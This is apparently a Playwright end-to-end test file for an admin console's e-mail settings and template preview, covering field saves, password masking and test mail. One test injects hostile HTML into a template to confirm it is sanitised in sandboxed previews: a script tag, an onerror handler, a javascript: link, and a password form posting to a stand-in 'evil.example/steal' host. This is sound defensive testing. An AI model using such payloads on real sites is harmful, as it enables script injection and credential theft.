import type { Page } from '@playwright/test';
import { test, expect, signIn, demo, outbox, allowOutside } from './support/test';
import { FIRST_LOAD, openRecord, panel, retype } from './support/pages';

/** The e-mail settings page (spec 2, Settings) and how template HTML shows, as the superadmin. */
test.describe.configure({ timeout: 120_000 });

const setting = async (page: Page) => (await (await page.request.get('/account/settings/1')).json()).payload;
const preview = (page: Page) => page.frameLocator('iframe[title="E-mail preview"]');

async function openSettings(page: Page) {
  await page.goto('/settings');
  await expect(page.getByRole('heading', { name: 'Settings', exact: true })).toBeVisible(FIRST_LOAD);
  await expect(page.getByRole('tab', { name: 'Email' })).toHaveAttribute('aria-selected', 'true');
  await expect(page.getByRole('textbox', { name: 'Mail Sent Name' })).toHaveValue('Example Platform', FIRST_LOAD);
}

test('the Email tab edits the first setting: each field saves alone, the port is a number, SSL a checkbox, the password never shows', async ({
  page,
}) => {
  await signIn(page, demo.admin);
  await openSettings(page);
  await expect(page.getByRole('tab')).toHaveCount(1);
  for (const [label, value] of [
    ['Reply Email', 'support@example.com'],
    ['Mail Logo', '/unity/uploads/seed-mail-logo.svg'],
    ['Mail Sent Email', 'no-reply@example.com'],
    ['Base URL', 'https://console.example.com'],
    ['Mail Host', 'smtp.example.com'],
    ['Mail User', 'no-reply@example.com'],
  ]) {
    await expect(page.getByRole('textbox', { name: label })).toHaveValue(value);
  }
  await expect(page.getByRole('textbox', { name: 'Primary Color' })).toHaveValue('#1976d2');
  await expect(page.getByRole('textbox', { name: 'Secondary Color' })).toHaveValue('#9c27b0');
  const port = page.getByRole('spinbutton', { name: 'Mail Port' });
  await expect(port).toHaveValue('587');
  const ssl = page.getByRole('checkbox', { name: 'Mail SSL' });
  await expect(ssl).toBeChecked();
  // A password is stored; it is never shown back, not even as its mask.
  const password = page.getByLabel('Mail Password');
  await expect(password).toHaveValue('');
  await expect(password).toHaveAttribute('type', 'password');
  await expect(page.getByText('Saved and hidden: type a new one to replace it.')).toBeVisible();

  const host = page.getByRole('textbox', { name: 'Mail Host' });
  await host.fill('smtp.mail.example.com');
  await host.blur();
  await expect(page.getByText('Setting has been updated.')).toBeVisible();
  await expect.poll(async () => (await setting(page)).mailHost).toBe('smtp.mail.example.com');

  await port.fill('2525');
  await port.press('Enter');
  await expect.poll(async () => (await setting(page)).mailPort).toBe(2525);

  await ssl.uncheck();
  await expect.poll(async () => (await setting(page)).mailSSL).toBe(false);

  const sent = page.waitForRequest((r) => r.method() === 'PUT' && r.url().endsWith('/account/settings/1'));
  await password.fill('n3w-smtp-pass');
  await password.press('Enter');
  expect((await sent).postDataJSON()).toEqual({ mailPassword: 'n3w-smtp-pass' });
  await expect(password).toHaveValue('');
  expect((await setting(page)).mailPassword).toBe('********');
  // Leaving the empty box sends nothing.
  let more = 0;
  page.on('request', (r) => r.method() === 'PUT' && r.url().includes('/account/settings/') && more++);
  await password.focus();
  await password.blur();
  await page.waitForTimeout(300);
  expect(more).toBe(0);
});

test('the preview follows every keystroke; template chips choose it; a test e-mail lands in the outbox', async ({
  page,
  api,
}) => {
  await signIn(page, demo.admin);
  await openSettings(page);
  const chips = page.getByRole('radiogroup', { name: 'Templates' }).getByRole('radio');
  // The seed's, with the mails of issue 59's changes in three languages.
  await expect(chips).toHaveText([
    'ACCESS_ENDING',
    'ACCESS_ENDING_DE',
    'ACCESS_ENDING_FR',
    'ACCESS_ORGANIZATION_REQUEST_WAITING',
    'ACCESS_ORGANIZATION_REQUEST_WAITING_DE',
    'ACCESS_ORGANIZATION_REQUEST_WAITING_FR',
    'ACCESS_REQUEST_WAITING',
    'ACCESS_REQUEST_WAITING_DE',
    'ACCESS_REQUEST_WAITING_FR',
    'DORMANT_ACCOUNT',
    'EMAIL_CHANGED',
    'EMAIL_CHANGED_DE',
    'EMAIL_CHANGED_FR',
    'FACTOR_ADDED',
    'FACTOR_ADDED_DE',
    'FACTOR_ADDED_FR',
    'FACTOR_REMOVED',
    'FACTOR_REMOVED_DE',
    'FACTOR_REMOVED_FR',
    'NEW_SIGN_IN',
    'NEW_SIGN_IN_DE',
    'NEW_SIGN_IN_FR',
    'ORGANIZATION_INVITE',
    'PASSKEY_ADDED',
    'PASSKEY_ADDED_DE',
    'PASSKEY_ADDED_FR',
    'PASSWORD_CHANGED',
    'PASSWORD_CHANGED_DE',
    'PASSWORD_CHANGED_FR',
    'RECOVERY_CODE_USED',
    'RECOVERY_CODE_USED_DE',
    'RECOVERY_CODE_USED_FR',
    'RESET_PASSWORD',
    'VALIDATE_EMAIL',
    'WELCOME',
  ]);
  await chips.filter({ hasText: 'WELCOME' }).click();
  await expect(chips.filter({ hasText: 'WELCOME' })).toHaveAttribute('aria-checked', 'true');
  const frame = preview(page);
  await expect(frame.getByRole('heading', { name: 'Welcome to the platform' })).toBeVisible();
  const button = frame.getByRole('link', { name: 'Open the console' });
  await expect(button).toHaveCSS('background-color', 'rgb(25, 118, 210)');
  // The seed's logo, from the console's own origin (the frame has none, so its paths are made absolute), shown.
  const logo = frame.getByRole('img', { name: 'Example Platform' });
  await expect(logo).toHaveAttribute('src', `${new URL(page.url()).origin}/unity/uploads/seed-mail-logo.svg`);
  await expect.poll(() => logo.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0)).toBe(true);

  // Typed, not saved yet (a field saves when it is left): the preview follows each key.
  const saves: string[] = [];
  page.on('request', (r) => r.method() === 'PUT' && saves.push(r.postData() ?? ''));
  const primary = page.getByRole('textbox', { name: 'Primary Color' });
  await retype(primary, '#00aa00');
  await expect(button).toHaveCSS('background-color', 'rgb(0, 170, 0)');
  await expect(frame.getByRole('heading', { name: 'Welcome to the platform' })).toHaveCSS('color', 'rgb(0, 170, 0)');
  expect(saves).toEqual([]);
  await primary.press('Enter');
  await expect.poll(async () => (await setting(page)).primaryColor).toBe('#00aa00');

  const name = page.getByRole('textbox', { name: 'Mail Sent Name' });
  await name.click();
  await name.press('End');
  await name.pressSequentially(' Mail');
  await expect(frame.getByText('Example Platform Mail · support@example.com')).toBeVisible();
  await expect(frame.getByRole('img', { name: 'Example Platform Mail' })).toBeVisible();
  expect(saves).toEqual(['{"primaryColor":"#00aa00"}']);
  await name.press('Enter');
  await expect.poll(async () => (await setting(page)).mailSentName).toBe('Example Platform Mail');

  await chips.filter({ hasText: 'RESET_PASSWORD' }).click();
  await expect(frame.getByRole('heading', { name: 'Reset your password' })).toBeVisible();
  await expect(frame.getByRole('link', { name: 'Reset my password' })).toHaveCSS('background-color', 'rgb(0, 170, 0)');

  const testEmail = page.getByRole('textbox', { name: 'Test Email' });
  const send = page.getByRole('button', { name: 'Send' });
  await expect(send).toBeDisabled();
  await testEmail.fill('qa@example.com');
  await send.click();
  await expect(page.getByText('Test e-mail sent to qa@example.com.')).toBeVisible();
  const mails = await outbox(api, 'qa@example.com');
  expect(mails).toHaveLength(1);
  expect(mails[0].subject).toBe('Reset your password');
  expect(mails[0].text).toContain('Reset my password');
});

test('a template whose description holds a script shows in the preview and on /templates without running it', async ({
  page,
  csp,
}) => {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  // The template's own image points outside: the test puts it there.
  allowOutside(/^https:\/\/img\.invalid\//);
  await signIn(page, demo.admin);
  const hostile = [
    '<p>Hello from the template</p>',
    // Each would leave a trace in the frame (or a dialog) if it ran.
    '<script>document.body.append("script ran"); alert("script");</script>',
    '<img src="https://img.invalid/x.png" onerror="document.body.append(\'onerror ran\')">',
    '<style>body { display: none }</style>',
    '<form action="https://evil.example/steal"><input type="password" name="p" placeholder="Password"></form>',
    '<a href="javascript:alert(\'link\')">click me</a>',
    '<iframe src="/users"></iframe>',
  ].join('');
  expect((await page.request.put('/account/templates/1', { data: { description: hostile } })).ok()).toBeTruthy();

  await openSettings(page);
  await page.getByRole('radiogroup', { name: 'Templates' }).getByRole('radio', { name: 'WELCOME' }).click();
  await expect(page.locator('iframe[title="E-mail preview"]')).toHaveAttribute('sandbox', '');
  const frame = preview(page);
  await expect(frame.getByText('Hello from the template')).toBeVisible();
  await expect(frame.locator('script, form, input, iframe, body style')).toHaveCount(0);
  await frame.getByText('click me').click();
  await expect(frame.getByText('Hello from the template')).toBeVisible();
  await expect(frame.getByText(/ran/)).toHaveCount(0);

  await openRecord(page, '/templates?templateID=1', 'Welcome to the platform');
  const field = panel(page).frameLocator('iframe[title="Description preview"]');
  await expect(field.getByText('Hello from the template')).toBeVisible();
  await expect(field.locator('script, form, input, iframe, body style')).toHaveCount(0);
  await expect(field.getByText(/ran/)).toHaveCount(0);
  await expect(panel(page).locator('iframe[title="Description preview"]')).toHaveAttribute('sandbox', '');

  await page.waitForTimeout(500);
  expect(dialogs).toEqual([]);
  // The sanitiser parses the template in an inert document of the page, under its policy: Chromium
  // reports the handler and the style sheet it meets there as refused (a second wall). Nothing else.
  const refused = csp
    .take()
    .filter(
      (report) =>
        !/inline event handler|Applying inline style|(script-src-attr|style-src-elem) refused inline/.test(report),
    );
  expect(refused).toEqual([]);
});
